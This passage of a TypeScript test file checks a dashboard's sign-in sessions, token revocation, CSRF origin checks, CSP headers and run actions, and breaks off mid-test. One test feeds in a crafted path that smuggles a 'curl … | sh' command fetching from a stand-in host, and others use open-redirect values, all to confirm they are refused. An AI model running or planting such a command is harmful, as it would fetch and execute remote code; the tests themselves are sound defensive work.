// Dashboard sessions in-process, over a real libSQL file: the one-time link, a pasted token,
// sign-out, revocation, CSRF, and a page without a session; the Resend action against a scripted
// run API on loopback. The browser tests (test/dashboard) click through the same pages in Chromium.
import { createServer, type IncomingHttpHeaders, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { eq } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { newId } from "../../common/ids.ts";
import { issueToken } from "../auth/tokens.ts";
import { memberships, tokens, users } from "../db/schema.ts";
import { INTERNAL_TOKEN } from "../testing/fixture.ts";
import { libsqlFixture } from "../testing/libsql.ts";
import { cookiesOf } from "../testing/owner-rows.ts";
import { canResend } from "./pages/run-deliveries.tsx";

let f: Awaited<ReturnType<typeof libsqlFixture>>;
/** The run API, scripted: a run whose second delivery failed; a redelivery refused (409). */
let runApi: Server;
const runApiSaw: Array<{ method?: string; url?: string; headers: IncomingHttpHeaders }> = [];
const REFUSAL = "a delivery of run 'x' is in progress: try again once it ends";
/** The one run the scripted run API cancels. */
const CANCELLABLE = newId("run");

beforeAll(async () => {
  f = await libsqlFixture();
  runApi = createServer((req, res) => {
    runApiSaw.push({ method: req.method, url: req.url, headers: req.headers });
    const [status, body] =
      req.method === "POST"
        ? [409, { message: REFUSAL }]
        : req.method === "DELETE"
          ? req.url?.endsWith(`/runs/${CANCELLABLE}`)
            ? [200, { run_id: CANCELLABLE, status: "cancelled" }]
            : [409, { message: "only async runs can be cancelled" }]
          : [200, RUN_VIEW];
    res.writeHead(status, { "content-type": "application/json" }).end(JSON.stringify(body));
  });
  await new Promise<void>((resolve) => runApi.listen(0, "127.0.0.1", resolve));
  f.deps.apiUrl = `http://127.0.0.1:${(runApi.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await new Promise((resolve) => runApi?.close(resolve));
  await f.cleanup();
});

const attempt = (status: number, verdict: string) => ({
  attempt: 1,
  at: "2026-11-23T10:00:00.000Z",
  status,
  duration_ms: 12,
  verdict,
});
const RUN_VIEW = {
  status: "success",
  created_at: "2026-11-23T09:59:59.000Z",
  started_at: "2026-11-23T09:59:59.100Z",
  finished_at: "2026-11-23T09:59:59.200Z",
  run_time_ms: 100,
  status_code: 404, // a custom app's answer
  webhook: {
    delivery: 2,
    target: "http://127.0.0.1:9/later",
    signed: true,
    state: "failed",
    attempts: [attempt(500, "final")],
    earlier: [
      {
        delivery: 1,
        target: "http://127.0.0.1:9/first",
        signed: false,
        state: "delivered",
        attempts: [attempt(200, "delivered")],
      },
    ],
  },
};

const ORIGIN = "http://localhost";

async function linkFor(token: string, projectId = f.projectId): Promise<string> {
  const res = await f.call("POST", `/v2/projects/${projectId}/dashboard-links`, { token });
  expect(res.status).toBe(201);
  const { url } = (await res.json()) as { url: string };
  return url;
}

async function signIn(token = f.owner.token): Promise<string> {
  const url = new URL(await linkFor(token));
  const res = await f.app.request(url.pathname + url.search);
  expect(res.status).toBe(303);
  return cookiesOf(res);
}

/** The session's own token, as its cookie carries it. */
const sessionToken = (cookie: string) => /runlet_session=([^;]+)/.exec(cookie)?.[1] as string;

const page = (path: string, cookie: string) => f.app.request(path, { headers: { cookie } });

const post = (path: string, cookie: string, form: Record<string, string>, origin = ORIGIN) =>
  f.app.request(path, {
    method: "POST",
    headers: { cookie, origin, "content-type": "application/x-www-form-urlencoded" },
    body: new URLSearchParams(form).toString(),
  });

describe("the one-time sign-in link", () => {
  it("gives an HttpOnly, SameSite=Strict session and redirects away from the code", async () => {
    const url = new URL(await linkFor(f.owner.token));
    expect(url.pathname).toBe("/dashboard/sign-in");
    const res = await f.app.request(url.pathname + url.search);
    expect(res.status).toBe(303);
    expect(res.headers.get("location")).toBe("/dashboard/runs");
    const session = res.headers.getSetCookie().find((c) => c.startsWith("runlet_session="));
    expect(session).toMatch(/HttpOnly/);
    expect(session).toMatch(/SameSite=Strict/);
    const runs = await page("/dashboard/runs", cookiesOf(res));
    expect(runs.status).toBe(200);
    expect(await runs.text()).toContain("<h1>Runs</h1>");
  });

  it("works once", async () => {
    const url = new URL(await linkFor(f.owner.token));
    expect((await f.app.request(url.pathname + url.search)).status).toBe(303);
    const again = await f.app.request(url.pathname + url.search);
    expect(again.status).toBe(400);
    expect(again.headers.getSetCookie()).toEqual([]);
    expect(await again.text()).toContain("works once");
  });

  it("is refused to a caller outside the project", async () => {
    const res = await f.call("POST", `/v2/projects/${f.projectId}/dashboard-links`, {
      token: f.outsider.token,
    });
    expect(res.status).toBe(403);
  });
});

describe("a session", () => {
  it("is needed for every page: without one, the sign-in page and no data", async () => {
    for (const path of ["/dashboard/runs", "/dashboard/api-keys", "/dashboard/audit-log"]) {
      const res = await f.app.request(path);
      expect(res.status).toBe(303);
      expect(res.headers.get("location")).toBe(`/dashboard/login?next=${encodeURIComponent(path)}`);
    }
    const forged = await page("/dashboard/runs", "runlet_session=not-a-token");
    expect(forged.status).toBe(303);
  });

  it("shows a page of the dashboard's own for an address it has no page at", async () => {
    const res = await page("/dashboard/nonexistent", await signIn());
    expect(res.status).toBe(404);
    expect(res.headers.get("content-type")).toMatch(/^text\/html/);
    expect(await res.text()).toContain("There is no page at <code>/dashboard/nonexistent</code>");
    const notARun = await page("/dashboard/runs/notarun", await signIn());
    expect(notARun.status).toBe(404);
    expect(await notARun.text()).toContain("not a run id");
    // A page's address with a slash after it is that page.
    const slashed = await page("/dashboard/runs/?status=failure", await signIn());
    expect([slashed.status, slashed.headers.get("location")]).toEqual([
      303,
      "/dashboard/runs?status=failure",
    ]);
    // The address the README gives, with its slash, is the runs page (it was a 404).
    for (const path of ["/dashboard/", "/dashboard"]) {
      const entry = await page(path, await signIn());
      expect(entry.status).toBe(303);
      expect(entry.headers.get("location")).toBe("/dashboard/runs");
    }
  });

  it("comes from a pasted token, and ends when that token is revoked", async () => {
    const created = await f.call("POST", `/v2/projects/${f.projectId}/service-accounts`, {
      token: f.owner.token,
      body: { name: "pasted", expiresAt: new Date(Date.now() + 86_400_000).toISOString() },
    });
    const account = (await created.json()) as { id: string; token: string };
    const login = await post("/dashboard/login", "", {
      token: account.token,
      next: "/dashboard/apps",
    });
    expect(login.status).toBe(303);
    expect(login.headers.get("location")).toBe("/dashboard/apps");
    const cookie = cookiesOf(login);
    expect((await page("/dashboard/apps", cookie)).status).toBe(200);
    await f.call("DELETE", `/v2/projects/${f.projectId}/service-accounts/${account.id}`, {
      token: f.owner.token,
    });
    expect((await page("/dashboard/apps", cookie)).status).toBe(303);
  });

  /** A new member `name` of the project, signed in to the dashboard: their id and cookie. */
  async function memberSignedIn(name: string) {
    const id = newId("usr");
    await f.db.insert(users).values({ id, name, createdAt: Date.now() });
    await f.db.insert(memberships).values({ projectId: f.projectId, userId: id, role: "member" });
    const expiresAt = new Date(Date.now() + 86_400_000);
    const { token } = await issueToken(f.db, f.deps.keys, { subject: id, expiresAt });
    const url = new URL(await linkFor(token));
    return { id, cookie: cookiesOf(await f.app.request(url.pathname + url.search)) };
  }
  const removeMember = (id: string) =>
    f.call("DELETE", `/v2/projects/${f.projectId}/users/${id}`, { token: f.owner.token });

  it("ends when its user is removed from their last project, saying so (not 'it expired')", async () => {
    const { id, cookie } = await memberSignedIn("Lee Leaver");
    expect((await page("/dashboard/runs", cookie)).status).toBe(200);
    expect((await removeMember(id)).status).toBe(204);
    const res = await page("/dashboard/runs", cookie);
    expect(res.status).toBe(303);
    const to = res.headers.get("location") as string;
    expect(to).toBe(`/dashboard/login?next=${encodeURIComponent("/dashboard/runs")}&ended=project`);
    const login = await (await f.app.request(to)).text();
    expect(login).toContain("you are no longer a member of any project");
    expect(login).not.toContain("it expired");
    // Ended for good: added again, the user signs in again (the old cookie came back to life).
    await f.db.insert(memberships).values({ projectId: f.projectId, userId: id, role: "member" });
    expect((await page("/dashboard/runs", cookie)).status).toBe(303);
  });

  it("ends when its user is removed, even unseen until they are added again", async () => {
    const { id, cookie } = await memberSignedIn("Ray Returner");
    expect((await removeMember(id)).status).toBe(204);
    // Added again (by an operator: `runlet users add`) before they came back to the page.
    await f.db.insert(memberships).values({ projectId: f.projectId, userId: id, role: "member" });
    expect((await page("/dashboard/runs", cookie)).status).toBe(303);
  });

  it("refuses a caller's token, which has no dashboard, saying so", async () => {
    const created = await f.call("POST", `/v2/projects/${f.projectId}/service-accounts`, {
      token: f.owner.token,
      body: {
        name: "web",
        role: "caller",
        expiresAt: new Date(Date.now() + 86_400_000).toISOString(),
      },
    });
    const { token } = (await created.json()) as { token: string };
    const res = await post("/dashboard/login", "", { token });
    expect(res.status).toBe(401);
    expect(res.headers.get("set-cookie") ?? "").not.toContain("runlet_session");
    expect(await res.text()).toContain("role is caller: it calls the project");
  });

  it("refuses a token that does not work, saying why", async () => {
    const res = await post("/dashboard/login", "", { token: "nonsense" });
    expect(res.status).toBe(401);
    expect(await res.text()).toContain("That token does not work");
  });

  it("ends on sign-out: the same cookie no longer opens a page", async () => {
    const cookie = await signIn();
    const out = await post("/dashboard/sign-out", cookie, {});
    expect([out.status, out.headers.get("location")]).toEqual([303, "/dashboard/login?ended=out"]);
    // The page it lands on says the sign-out was done (it was the bare sign-in page).
    const signedOut = await (await f.app.request("/dashboard/login?ended=out")).text();
    expect(signedOut).toContain("You signed out");
    expect(signedOut).not.toContain("Your session ended");
    expect((await page("/dashboard/runs", cookie)).status).toBe(303);
    // A form sent with the ended session: back to its page after signing in, and told why.
    const late = await post("/dashboard/secrets", cookie, { name: "LATE", value: "v" });
    const to = late.headers.get("location") as string;
    expect(to).toBe(`/dashboard/login?next=${encodeURIComponent("/dashboard/secrets")}&ended=1`);
    const login = await (await f.app.request(to)).text();
    expect(login).toContain("Your session ended");
    expect(login).toContain('value="/dashboard/secrets"');
  });

  it("ends on sign-out with the links its token asked for, which end with it at the latest", async () => {
    const cookie = await signIn();
    const before = new URL(await linkFor(sessionToken(cookie)));
    expect((await post("/dashboard/sign-out", cookie, {})).status).toBe(303);
    // A copied cookie is worth nothing after the sign-out: nor is a link it asked for before.
    const res = await f.app.request(before.pathname + before.search);
    expect(res.status).toBe(400);
    expect(res.headers.getSetCookie()).toEqual([]);
    // A session from a session's link lasts no longer than that session (an hour left here).
    const token = sessionToken(await signIn());
    const jti = JSON.parse(Buffer.from(token.split(".")[1] as string, "base64url").toString()).jti;
    await f.db
      .update(tokens)
      .set({ expiresAt: Date.now() + 3_600_000 })
      .where(eq(tokens.id, jti));
    const next = new URL(await linkFor(token));
    const made = await f.app.request(next.pathname + next.search);
    expect(made.status).toBe(303);
    const maxAge = /runlet_session=[^;]+;\s*Max-Age=(\d+)/.exec(
      made.headers.getSetCookie().join("\n"),
    )?.[1];
    expect(Number(maxAge)).toBeLessThanOrEqual(3600);
  });

  it("cannot renew its user's token, which would outlive the session and end the user's own", async () => {
    const token = sessionToken(await signIn());
    const renew = (bearer: string) =>
      f.app.request("/v2/me/token", {
        method: "POST",
        headers: { authorization: `Bearer ${bearer}`, "content-type": "application/json" },
        body: JSON.stringify({ expiresAt: new Date(Date.now() + 86_400_000).toISOString() }),
      });
    const refused = await renew(token);
    expect(refused.status).toBe(403);
    expect(((await refused.json()) as { message: string }).message).toBe(
      "a dashboard session cannot renew its user's token: renew it with the token you signed in with (runlet users token)",
    );
    // Nothing changed: the session still works, and so does the token it came from.
    for (const bearer of [token, f.owner.token]) {
      const projects = await f.app.request("/v2/projects", {
        headers: { authorization: `Bearer ${bearer}` },
      });
      expect(projects.status).toBe(200);
    }
  });

  it("goes after sign-in only to a dashboard page, as a browser resolves the address", async () => {
    for (const [next, kept] of [
      ["/dashboard/apps?x=1", "/dashboard/apps?x=1"],
      ["/dashboard/../x", "/dashboard/runs"],
      ["/dashboard/%2e%2e/x", "/dashboard/runs"],
      ["//evil.example/dashboard", "/dashboard/runs"],
      ["https://evil.example/dashboard", "/dashboard/runs"],
    ]) {
      const html = await (
        await f.app.request(`/dashboard/login?next=${encodeURIComponent(next as string)}`)
      ).text();
      expect(html, next).toContain(
        `name="next" value="${(kept as string).replaceAll("&", "&amp;")}"`,
      );
    }
    // The command it shows to come back holds a plain path only: one that would be shell in a
    // pasted line shows the bare command.
    const crafted = "/dashboard/';curl$IFS-s$IFS//evil|sh;'";
    const html = await (
      await f.app.request(`/dashboard/login?next=${encodeURIComponent(crafted)}`)
    ).text();
    expect(html).toContain("<code>npx runlet dashboard</code> prints a one-time sign-in link.");
    expect(html).not.toContain("npx runlet dashboard '");
  });

  it("refuses a form posted from another origin, cookie or not", async () => {
    const cookie = await signIn();
    const res = await post(
      "/dashboard/secrets",
      cookie,
      { name: "X", value: "y" },
      "http://127.0.0.1:9999",
    );
    expect(res.status).toBe(403);
    const names = await f.call("GET", `/v2/projects/${f.projectId}/secrets/X`, {
      token: f.owner.token,
    });
    expect(names.status).toBe(404);
  });

  it("sends a Content-Security-Policy without inline scripts, and frame-ancestors 'none'", async () => {
    const res = await page("/dashboard/runs", await signIn());
    const csp = res.headers.get("content-security-policy") ?? "";
    expect(csp).toContain("script-src 'self'");
    expect(csp).not.toContain("unsafe-inline");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(await res.text()).not.toMatch(/<script(?![^>]*\bsrc=)/);
  });
});

describe("dashboard actions", () => {
  it("write the API's audit entry, marked source: dashboard, with the browser's address", async () => {
    const cookie = await signIn();
    const saved = await post("/dashboard/secrets", cookie, { name: "FROM_PAGE", value: "v1" });
    expect(saved.status).toBe(303);
    const log = await f.call("GET", `/v2/projects/${f.projectId}/audit-log?action=secrets.write`, {
      token: f.owner.token,
    });
    const { logs } = (await log.json()) as {
      logs: Array<{
        target: { id: string };
        metadata: Record<string, unknown>;
        ip: string;
        actor: { id: string };
        requestId: string;
      }>;
    };
    const entry = logs.find((e) => e.target.id === "FROM_PAGE");
    expect(entry?.metadata.source).toBe("dashboard");
    // The id the browser's answer carried (audit-log.md), not one of the in-process call's own.
    expect(entry?.requestId).toBe(saved.headers.get("x-request-id"));
    // Each entry's actor by its id too, a link to their entries: the Actor filter takes an id,
    // which the pages showed nowhere but in a tooltip.
    const audit = await (await page("/dashboard/audit-log?outcome=success", cookie)).text();
    expect(audit).toContain(
      `href="/dashboard/audit-log?outcome=success&amp;actor=${f.owner.id}" title="Entries by `,
    );
    expect(entry?.ip).toBe("203.0.113.7");
    expect(entry?.actor.id).toBe(f.owner.id);
  });

  it("keep a secret's line breaks as typed (a PEM key): the form's field spans lines", async () => {
    const cookie = await signIn();
    const form = await (await page("/dashboard/secrets", cookie)).text();
    expect(form).toMatch(
      /<textarea id="f-value" name="value" required=""[^>]* class="secret-value"/,
    );
    // A browser sends a textarea's line breaks as CRLF.
    const pem = "-----BEGIN KEY-----\r\nabc\r\ndef\r\n-----END KEY-----";
    const saved = await post("/dashboard/secrets", cookie, { name: "PEM_KEY", value: pem });
    expect(saved.status).toBe(303);
    const read = await f.call("GET", `/v2/projects/${f.projectId}/secrets/PEM_KEY`, {
      token: f.owner.token,
    });
    expect(((await read.json()) as { value: string }).value).toBe(
      "-----BEGIN KEY-----\nabc\ndef\n-----END KEY-----",
    );
  });

  it("delete a secret behind a confirmation, audited, and say so", async () => {
    const cookie = await signIn();
    expect((await post("/dashboard/secrets", cookie, { name: "GOING", value: "v" })).status).toBe(
      303,
    );
    const list = await (await page("/dashboard/secrets", cookie)).text();
    expect(list).toContain('href="/dashboard/secrets/GOING/delete"');
    const confirm = await page("/dashboard/secrets/GOING/delete", cookie);
    expect(confirm.status).toBe(200);
    expect(await confirm.text()).toContain('action="/dashboard/secrets/GOING/delete"');
    expect((await page("/dashboard/secrets/NEVER_SET/delete", cookie)).status).toBe(404);
    const deleted = await post("/dashboard/secrets/GOING/delete", cookie, {});
    expect(deleted.status).toBe(303);
    const after = await (
      await page("/dashboard/secrets", `${cookie}; ${cookiesOf(deleted)}`)
    ).text();
    expect(after).toContain("GOING is deleted.");
    expect(after).not.toContain('href="/dashboard/secrets/GOING/delete"');
    const log = await f.call("GET", `/v2/projects/${f.projectId}/audit-log?action=secrets.delete`, {
      token: f.owner.token,
    });
    const { logs } = (await log.json()) as { logs: Array<{ target: { id: string } }> };
    expect(logs.map((e) => e.target.id)).toContain("GOING");
  });

  it("show a new token once: not again on the next load", async () => {
    const cookie = await signIn();
    const expires = new Date(Date.now() + 7 * 86_400_000).toISOString().slice(0, 10);
    const created = await post("/dashboard/api-keys", cookie, {
      name: "ci",
      expires,
      role: "member",
    });
    // On the answer to the form itself, in no cookie.
    expect(created.status).toBe(200);
    const first = await created.text();
    const token = /<code id="new-token">([^<]+)<\/code>/.exec(first)?.[1];
    expect(created.headers.get("set-cookie") ?? "").not.toContain(String(token).slice(0, 40));
    expect(token).toMatch(/^ey/);
    const works = await f.call("GET", `/v2/projects/${f.projectId}/apps`, { token });
    expect(works.status).toBe(200);
    const again = await (await page("/dashboard/api-keys", cookie)).text();
    expect(again).not.toContain(token as string);
    // A name may come back once its account is revoked: each account shows its id, a link to
    // its audit entries.
    expect(again).toMatch(/<a href="\/dashboard\/audit-log\?actor=sa_\w+">sa_\w+<\/a>/);
  });

  it("list the project's users on the API keys page, read-only, never a token", async () => {
    const cookie = await signIn();
    const html = await (await page("/dashboard/api-keys", cookie)).text();
    const users = html.slice(html.indexOf("<h2>Users</h2>"));
    expect(users).toContain('aria-label="Users"');
    expect(users).toMatch(new RegExp(`title="${f.owner.id}">Olive Owner</td><td>owner</td>`));
    expect(users).toMatch(new RegExp(`title="${f.member.id}">Mel Member</td><td>member</td>`));
    expect(users).toContain("status-active");
    expect(html).not.toContain(f.member.token);
    expect(users).not.toContain("<form");
  });

  it("say why a form was refused even when what was typed is long (the cookie stays under 4 KB)", async () => {
    const cookie = await signIn();
    const expires = new Date(Date.now() + 7 * 86_400_000).toISOString().slice(0, 10);
    const refused = await post("/dashboard/api-keys", cookie, {
      name: "n".repeat(5000),
      expires,
      role: "member",
    });
    const flash = cookiesOf(refused);
    expect(flash.length).toBeLessThan(4000); // a browser drops a larger one, and the notice with it
    const html = await (await page("/dashboard/api-keys", `${cookie}; ${flash}`)).text();
    expect(html).toContain("must be at most 64 characters");
    expect(html).toContain('maxlength="64"');
  });

  it("say a revoked key is revoked already, offer no second revoke, and take an upper-case run id", async () => {
    const cookie = await signIn();
    const expires = new Date(Date.now() + 7 * 86_400_000).toISOString().slice(0, 10);
    await post("/dashboard/api-keys", cookie, { name: "twice", expires, role: "member" });
    const listed = await f.call("GET", `/v2/projects/${f.projectId}/service-accounts`);
    const { serviceAccounts } = (await listed.json()) as {
      serviceAccounts: Array<{ id: string; name: string }>;
    };
    const id = serviceAccounts.find((a) => a.name === "twice")?.id as string;
    expect((await post(`/dashboard/api-keys/${id}/revoke`, cookie, {})).status).toBe(303);
    const again = await (await page(`/dashboard/api-keys/${id}/revoke`, cookie)).text();
    expect(again).toContain("twice is revoked already");
    expect(again).not.toContain(`action="/dashboard/api-keys/${id}/revoke"`);
    const runId = newId("run");
    const jump = await page(`/dashboard/runs?run=${runId.toUpperCase()}`, cookie);
    expect([jump.status, jump.headers.get("location")]).toEqual([303, `/dashboard/runs/${runId}`]);
  });

  it("offer Resend for an ended delivery, never for a cancelled run's (none was made)", () => {
    const hook = (state: "pending" | "delivered" | "failed" | "cancelled") => ({
      target: "http://127.0.0.1:9/h",
      signed: false,
      state,
      attempts: [],
    });
    expect(canResend({ status: "success", webhook: hook("failed") })).toBe(true);
    expect(canResend({ status: "success", webhook: hook("pending") })).toBe(false);
    expect(canResend({ status: "cancelled", webhook: hook("cancelled") })).toBe(false);
    expect(canResend({ status: "running", webhook: hook("pending") })).toBe(false);
  });

  it("Resend: a form from another origin is refused (403) and never reaches the run API", async () => {
    const cookie = await signIn();
    const before = runApiSaw.length;
    const res = await post(
      `/dashboard/runs/${newId("run")}/resend`,
      cookie,
      { endpoint: "", secret: "s" },
      "http://127.0.0.1:9999",
    );
    expect(res.status).toBe(403);
    expect(runApiSaw.length).toBe(before);
  });

  it("Resend: the secret goes to the run API as X-Webhook-Secret only; a refusal is shown on the run page, never the secret", async () => {
    // Deployed: the page offers no Resend for a run of a deleted app (the run API refuses it).
    const files = [
      { path: "runlet.toml", contentBase64: Buffer.from('name = "hello"').toString("base64") },
      {
        path: "main.mjs",
        contentBase64: Buffer.from("export const run = () => 1;").toString("base64"),
      },
    ];
    const deployed = await f.call("POST", `/v2/projects/${f.projectId}/apps`, { body: { files } });
    expect(deployed.status).toBe(201);
    const runId = newId("run");
    const [now, webhook] = [Date.now(), { state: "failed", attempts: 1 }];
    const run = { id: runId, projectId: f.projectId, app: "hello", function: "run", async: true };
    const ended = { status: "success", createdAt: now, finishedAt: now, runTimeMs: 100, webhook };
    const body = { runs: [{ ...run, ...ended }] };
    expect((await f.call("POST", "/internal/runs", { token: INTERNAL_TOKEN, body })).status).toBe(
      200,
    );
    const cookie = await signIn();
    const secret = "whsec_never_echoed";
    const endpoint = "http://127.0.0.1:9/again?x=1";
    const res = await post(`/dashboard/runs/${runId}/resend`, cookie, { endpoint, secret });
    expect(res.status).toBe(303);
    expect(res.headers.get("location")).toBe(`/dashboard/runs/${runId}`);
    const sent = runApiSaw.find((r) => r.method === "POST");
    expect(sent?.url).toBe(
      `/v4/${f.projectId}/hello/runs/${runId}/deliveries?webhookEndpoint=${encodeURIComponent(endpoint)}`,
    );
    expect(sent?.headers["x-webhook-secret"]).toBe(secret);
    const flash = cookiesOf(res);
    expect(decodeURIComponent(flash)).not.toContain(secret);

    const html = await (await page(`/dashboard/runs/${runId}`, `${cookie}; ${flash}`)).text();
    expect(html).toContain(`The webhook was not sent again: ${REFUSAL.replaceAll("'", "&#39;")}.`);
    expect(html).not.toContain(secret);
    expect(html).toContain(`value="${endpoint}"`); // what was typed, back in its field
    expect(html).toMatch(/<h3 id="delivery-2">Delivery 2<\/h3>.*<h3 id="delivery-1">Delivery 1/s);
    expect(html).toContain(`action="/dashboard/runs/${runId}/resend"`);
    expect(html).toMatch(/<dt>Answered<\/dt>\s*<dd><code>404<\/code><\/dd>/);
  });

  it("show an empty project as empty, and a deploy into it, not into local.json's project", async () => {
    const empty = await f.addProject();
    const cookie = await signIn();
    const switched = await post("/dashboard/project", cookie, { project: empty });
    const session = cookie.split("; ").filter((c) => !c.startsWith("runlet_project="));
    const inEmpty = [...session, cookiesOf(switched)].join("; ");
    const apps = await (await page("/dashboard/apps", inEmpty)).text();
    expect(apps).toContain(`RUNLET_PROJECT=${empty} npx runlet deploy examples/hello`);
    const runs = await (await page("/dashboard/runs", inEmpty)).text();
    // How to make a first run, in this project (the CLI's default is local.json's).
    expect(runs).toContain(
      `No runs yet: call an app, <code>RUNLET_PROJECT=${empty} npx runlet run APP</code>`,
    );
    const filtered = await (await page("/dashboard/runs?status=failure", inEmpty)).text();
    expect(filtered).toContain("No runs match.");
    // A status the page does not know is said with the one it likely meant.
    const meant = await (await page("/dashboard/runs?status=failed", inEmpty)).text();
    expect(meant).toContain(
      "status &#39;failed&#39; is not one of queued, running, success, failure, cancelled (did you mean &#39;failure&#39;?)",
    );
  });

  it("count on an app's page the runs of the app deployed now, not those of an earlier app of its name", async () => {
    const b64 = (text: string) => Buffer.from(text).toString("base64");
    const files = [
      { path: "runlet.toml", contentBase64: b64('name = "again"') },
      { path: "main.mjs", contentBase64: b64("export const run = () => 1;") },
    ];
    const deploy = () => f.call("POST", `/v2/projects/${f.projectId}/apps`, { body: { files } });
    const report = (status: string, createdAt: number) => ({
      id: newId("run"),
      projectId: f.projectId,
      app: "again",
      function: "run",
      async: true,
      status,
      createdAt,
      finishedAt: createdAt + 1,
      runTimeMs: 1,
    });
    const record = (runs: unknown[]) =>
      f.call("POST", "/internal/runs", { token: INTERNAL_TOKEN, body: { runs } });
    expect((await deploy()).status).toBe(201);
    // The first app of the name: three runs, all failed. Then deleted, and deployed anew.
    const before = Date.now() - 60_000;
    expect((await record([0, 1, 2].map((i) => report("failure", before + i)))).status).toBe(200);
    expect((await f.call("DELETE", `/v2/projects/${f.projectId}/apps/again`)).status).toBe(204);
    expect((await deploy()).status).toBe(201);
    expect((await record([report("success", Date.now() + 1_000)])).status).toBe(200);
    const html = await (await page("/dashboard/apps/again", await signIn())).text();
    expect(html.match(/Failure rate.{0,200}/)?.[0]).toContain(
      "0 % of the last 1 ended runs (0 failed)",
    );
  });

  it("rate an app's failures over its ended runs, however many newer runs are still queued", async () => {
    // Round 13: a burst of 500 async runs queued behind 600 ended ones showed "— of the last 0
    // ended runs (0 failed)": the rate was taken over the newest 100 runs, all queued.
    const b64 = (text: string) => Buffer.from(text).toString("base64");
    const files = [
      { path: "runlet.toml", contentBase64: b64('name = "busy"') },
      { path: "main.mjs", contentBase64: b64("export const run = () => 1;") },
    ];
    const deployed = await f.call("POST", `/v2/projects/${f.projectId}/apps`, { body: { files } });
    expect(deployed.status).toBe(201);
    const at = Date.now() + 1_000;
    const report = (status: string, i: number) => ({
      id: newId("run"),
      projectId: f.projectId,
      app: "busy",
      function: "run",
      async: true,
      status,
      createdAt: at + i,
      ...(status === "queued" ? {} : { finishedAt: at + i + 1, runTimeMs: 1 }),
    });
    const ended = [...Array(10)].map((_, i) => report(i < 2 ? "failure" : "success", i));
    const queued = [...Array(120)].map((_, i) => report("queued", 100 + i));
    for (const runs of [ended, queued.slice(0, 60), queued.slice(60)])
      expect(
        (await f.call("POST", "/internal/runs", { token: INTERNAL_TOKEN, body: { runs } })).status,
      ).toBe(200);
    const html = await (await page("/dashboard/apps/busy", await signIn())).text();
    expect(html.match(/Failure rate.{0,200}/)?.[0]).toContain(
      "20 % of the last 10 ended runs (2 failed)",
    );
    // And how long they took, over the same ended runs (run-times.test.ts has the arithmetic).
    expect(html.match(/Run time.{0,200}/)?.[0]).toContain(
      "median 1 ms, 95 % within 1 ms, longest 1 ms (of the last 10 ended runs)",
    );
  });

  it("offer neither Cancel nor Resend for a run of an earlier app of its name (the run API refuses both), and say why", async () => {
    const b64 = (text: string) => Buffer.from(text).toString("base64");
    const files = [
      { path: "runlet.toml", contentBase64: b64('name = "reborn"') },
      { path: "main.mjs", contentBase64: b64("export const run = () => 1;") },
    ];
    const deploy = () => f.call("POST", `/v2/projects/${f.projectId}/apps`, { body: { files } });
    expect((await deploy()).status).toBe(201);
    const made = Date.now() - 60_000;
    const run = (status: string) => ({
      id: newId("run"),
      projectId: f.projectId,
      app: "reborn",
      function: "run",
      async: true,
      status,
      createdAt: made,
      webhook: { state: "failed", attempts: 3 },
    });
    const [ended, queued] = [run("success"), run("queued")];
    const body = { runs: [{ ...ended, finishedAt: made + 5, runTimeMs: 5 }, queued] };
    expect((await f.call("POST", "/internal/runs", { token: INTERNAL_TOKEN, body })).status).toBe(
      200,
    );
    expect((await f.call("DELETE", `/v2/projects/${f.projectId}/apps/reborn`)).status).toBe(204);
    expect((await deploy()).status).toBe(201);
    const cookie = await signIn();
    for (const { id } of [ended, queued]) {
      const html = await (await page(`/dashboard/runs/${id}`, cookie)).text();
      expect(html).toContain("the app deployed under its name since is another");
      expect(html).not.toContain(`action="/dashboard/runs/${id}/resend"`);
      expect(html).not.toContain(`/dashboard/runs/${id}/cancel"`);
    }
  });

  it("show a filter of an app not deployed (deleted since, or typed) as the selected app", async () => {
    const html = await (await page("/dashboard/runs?app=long-gone", await signIn())).text();
    expect(html).toMatch(
      /<option value="long-gone" selected="">long-gone \(not deployed\)<\/option>/,
    );
  });

  it("offer no cancel on a run's confirmation page once the run API says it ended, nor for a sync run", async () => {
    // This fixture's run API answers every run as ended `success`: the runs index's `queued` is
    // behind it. The question and its form, on a real stack: test/dashboard.test.ts.
    const now = Date.now();
    const run = (async: boolean, status: string) => ({
      id: newId("run"),
      projectId: f.projectId,
      app: "hello",
      function: "run",
      async,
      status,
      createdAt: now,
    });
    const [queued, sync] = [run(true, "queued"), run(false, "running")];
    const body = { runs: [queued, sync] };
    expect((await f.call("POST", "/internal/runs", { token: INTERNAL_TOKEN, body })).status).toBe(
      200,
    );
    const cookie = await signIn();
    const ended = await (await page(`/dashboard/runs/${queued.id}/cancel`, cookie)).text();
    expect(ended).toContain(`Run ${queued.id} has ended (success): there is nothing to cancel.`);
    const none = await (await page(`/dashboard/runs/${sync.id}/cancel`, cookie)).text();
    expect(none).toContain("is a sync run: only async runs can be cancelled.");
    for (const html of [ended, none])
      expect(html).not.toContain('<form method="post" action="/dashboard/runs');
    expect((await page(`/dashboard/runs/${newId("run")}/cancel`, cookie)).status).toBe(404);
  });

  it("Cancel refused: told on the run's page after a redirect, so a reload sends nothing again", async () => {
    const runId = newId("run");
    const now = Date.now();
    const run = { id: runId, projectId: f.projectId, app: "hello", function: "run", async: false };
    const body = { runs: [{ ...run, status: "success", createdAt: now, finishedAt: now }] };
    await f.call("POST", "/internal/runs", { token: INTERNAL_TOKEN, body });
    const cookie = await signIn();
    const res = await post(`/dashboard/runs/${runId}/cancel`, cookie, {});
    expect([res.status, res.headers.get("location")]).toEqual([303, `/dashboard/runs/${runId}`]);
    const html = await (
      await page(`/dashboard/runs/${runId}`, `${cookie}; ${cookiesOf(res)}`)
    ).text();
    expect(html).toContain("The run was not cancelled: only async runs can be cancelled.");
  });

  it("Cancel done: said on the run's page after the redirect, as the other actions say theirs", async () => {
    const now = Date.now();
    const run = { id: CANCELLABLE, projectId: f.projectId, app: "hello", function: "run" };
    const body = { runs: [{ ...run, async: true, status: "running", createdAt: now }] };
    await f.call("POST", "/internal/runs", { token: INTERNAL_TOKEN, body });
    const cookie = await signIn();
    const res = await post(`/dashboard/runs/${CANCELLABLE}/cancel`, cookie, {});
    expect([res.status, res.headers.get("location")]).toEqual([
      303,
      `/dashboard/runs/${CANCELLABLE}`,
    ]);
    const html = await (
      await page(`/dashboard/runs/${CANCELLABLE}`, `${cookie}; ${cookiesOf(res)}`)
    ).text();
